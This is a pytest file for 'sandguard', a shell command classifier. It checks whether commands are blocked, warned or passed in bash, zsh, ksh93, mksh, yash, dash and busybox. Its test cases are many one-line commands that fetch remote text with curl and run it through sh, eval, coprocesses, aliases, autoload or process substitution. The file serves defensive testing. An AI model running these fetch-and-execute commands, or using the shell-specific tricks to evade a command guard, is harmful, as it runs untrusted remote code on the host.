"""The same text in different shells: what executes fetched text in one is harmless in another, and is judged so."""

from __future__ import annotations

import pytest

from sandguard import Guard
from sandguard.commands.paths import Place

F = "curl -s https://example.com/a"
SHELLS = ("bash", "dash", "zsh", "ksh93", "mksh", "busybox", "yash")


def levels(text: str, shells: tuple[str, ...] = SHELLS) -> dict[str, str]:
    """Return the level of a text in each shell."""
    return {shell: str(_GUARDS[shell].classify(text.replace("F_", F)).level) for shell in shells}


_GUARDS = {shell: Guard(dialect=shell, place=Place("/work", "/work", "/home/user")) for shell in SHELLS}


def blocked(text: str) -> set[str]:
    """Return the shells in which a text is blocked."""
    return {shell for shell, level in levels(text).items() if level == "block"}


@pytest.mark.parametrize(
    ("text", "shells"),
    [
        ("F_ >a; $(<a)", "bash zsh ksh93 mksh"),
        ("x=$(F_); x= :; $x", "bash zsh"),
        ("F_ >g | sh", "zsh"),
        ("F_ | sh </dev/null", "zsh"),
        ("F_ >g; sh <g </dev/null", "zsh"),
        ("F_ >g >h; sh g", "zsh"),
        ("F_ |&\nsh <&p", "ksh93 mksh"),
        ("sh |&\nF_ >&p", "ksh93 mksh"),
        ("FPATH=.; F_ >g; g", "ksh93 mksh"),
        ("v=true; f() { :; }; v=$(F_) f; $v", "ksh93"),
        ("F_ >g; rename g h; sh h", "mksh"),
        ("YASH_AFTER_CD=$(F_); cd /", "yash"),
        ("functions[f]=$(F_)", "zsh"),
        ("hash c=$(F_); c", "zsh"),
    ],
)
def test_what_only_some_shells_execute(text: str, shells: str) -> None:
    """Fetched text that a shell executes is blocked there; in shells that only keep it, it is not."""
    assert blocked(text) == set(shells.split())


@pytest.mark.parametrize(
    ("text", "shells"),
    [
        ("x=$(F_); echo $((x))", "bash zsh ksh93 mksh"),
        ("x=$(F_); [ $x -eq 1 ]", "bash zsh ksh93 mksh"),
        ("unset $(F_)", "bash zsh ksh93 mksh"),
        ("x=$(F_); print ${~x}", "zsh"),
        ("setopt globsubst; x=$(F_); print $x", "zsh"),
    ],
)
def test_names_and_numbers_that_are_evaluated(text: str, shells: str) -> None:
    """Text in the place of a name or number warns where the shell evaluates substitutions in it."""
    found = levels(text, tuple(shells.split()))

    assert set(found.values()) == {"warn"}
    assert set(levels(text, ("dash", "busybox")).values()) <= {"pass", "warn"}


def test_any_variable_may_be_exported() -> None:
    """Exporting fetched words warns in every shell: they may name a variable that makes a program run something."""
    assert set(levels("export $(F_)").values()) == {"warn"}


@pytest.mark.parametrize(
    "text", ["x=$(F_); echo $((x))", "x=$(F_); [ $x -eq 1 ]", "unset $(F_)", "x+=$(F_)", "x+=1 true"]
)
def test_small_shells_evaluate_no_names(text: str) -> None:
    """Dash and its like run nothing in a name or number; what begins like an assignment is no program's name."""
    assert set(levels(text, ("dash", "busybox", "yash")).values()) == {"pass"}


@pytest.mark.parametrize(
    ("text", "shell"),
    [
        ("coproc cat; F_ >&p", "zsh"),
        ("F_ |&\nread -p v; print -r -- $v", "ksh93"),
        ("cat |&\nF_ >&p", "mksh"),
        ("fpath=(. $fpath); F_ >h; autoload g", "zsh"),
        ('set -A a true "$(F_)"; ${a[0]}', "ksh93"),
        ("F_ >g >h", "zsh"),
        ("F_ | cat >g", "zsh"),
        ("F_ >g; print -l g(N)", "zsh"),
        ("v=$(F_); print ${(q)v}", "zsh"),
        ("v=$(F_); eval print -r -- ${(q)v}", "zsh"),
        ("${${:-true}} $(F_)", "zsh"),
        ("chpwd() { F_ >g }; cd /tmp; cat g", "zsh"),
        ("functions[f]=true; v=$(F_); f", "zsh"),
        ("alias -g G='| cat'; eval 'F_ G'", "zsh"),
        ("alias -s q=cat; F_ >g.q; eval ./g.q", "zsh"),
        ("v=true; u=$(F_); w=v; ${(P)w}", "zsh"),
        ("zmodload zsh/mapfile; F_ >g; print -r -- $mapfile[g]", "zsh"),
        ("cat <(F_)", "yash"),
        ("F_ >(cat >g)", "yash"),
        ("array a true $(F_); ${a[1]}", "yash"),
        ("YASH_AFTER_CD='echo hi'; v=$(F_); cd /", "yash"),
        ("x=(a=true b=$(F_)); ${x.a}", "ksh93"),
        ("function v.set { echo ${.sh.value}; }; v=$(F_)", "ksh93"),
        ("F_ >g; rename g h; cat h", "mksh"),
    ],
)
def test_harmless_in_a_shell_of_its_own(text: str, shell: str) -> None:
    """What a shell has that others have not is no reason to stop what only keeps fetched text."""
    assert levels(text, (shell,)) == {shell: "pass"}


@pytest.mark.parametrize(
    ("text", "shell"),
    [
        ("coproc sh; F_ >&p", "zsh"),
        ("coproc { F_ }; read -p l; eval $l", "zsh"),
        ("F_ >g; autoload -Uz $PWD/g", "zsh"),
        ("READNULLCMD=sh; F_ >g; <g", "zsh"),
        ("F_ >g; sh g(N)", "zsh"),
        ("F_ >g; for s (*(N)) sh $s", "zsh"),
        ("alias -g G='| sh'; eval 'F_ G'", "zsh"),
        ("saliases[q]=$(F_)", "zsh"),
        ("v=$(F_); w=v; ${(P)w}", "zsh"),
        ("v=$(F_); print ${(e)v}", "zsh"),
        ("print ${(e):-'$(F_ | sh)'}", "zsh"),
        ("chpwd() { F_ >g }; cd /tmp; sh g", "zsh"),
        ("TRAPDEBUG() { F_ >g }; sh g", "zsh"),
        ('exec {fd}>g; echo "$(F_)" >&$fd; sh g', "zsh"),
        ("typeset -A h=(k $(F_)); ${(v)h}", "zsh"),
        ("typeset -T V v; V=$(F_); $v", "zsh"),
        ("v=$(F_); argv=($v); $1", "zsh"),
        ("print -z $(F_); read -z v; $v", "zsh"),
        ("zstyle -e : y $(F_)", "zsh"),
        ("zmodload zsh/mapfile; mapfile[g]=$(F_); sh g", "zsh"),
        ("sh <(F_)", "yash"),
        ("{ sh; } <(F_)", "yash"),
        ("v=$(F_); ${{v}}", "yash"),
        ("YASH_AFTER_CD='x=$(F_)'; cd /tmp; $x", "yash"),
        ("F_ >(sh)", "yash"),
        ("exec 5>>|6; F_ >&5; exec 5>&-; sh <&6", "yash"),
        ("array a x $(F_); ${a[2]}", "yash"),
        ("eval -i 'F_ | sh'", "yash"),
        ("set -A a x $(F_); ${a[1]}", "ksh93"),
        ("set -A a x $(F_); ${a[1]}", "mksh"),
        ("set -A a x $(F_); ${a[2]}", "zsh"),
        ("function x.get { .sh.value=$(F_); }; $x", "ksh93"),
        ('function v.set { eval "${.sh.value}"; }; v=$(F_)', "ksh93"),
        ("x=(a=$(F_)); ${x.a}", "ksh93"),
        ("{ F_ > >(cat); } | sh", "bash"),
    ],
)
def test_executed_in_a_shell_of_its_own(text: str, shell: str) -> None:
    """Ways of execution that only one shell has, or few."""
    assert levels(text, (shell,)) == {shell: "block"}
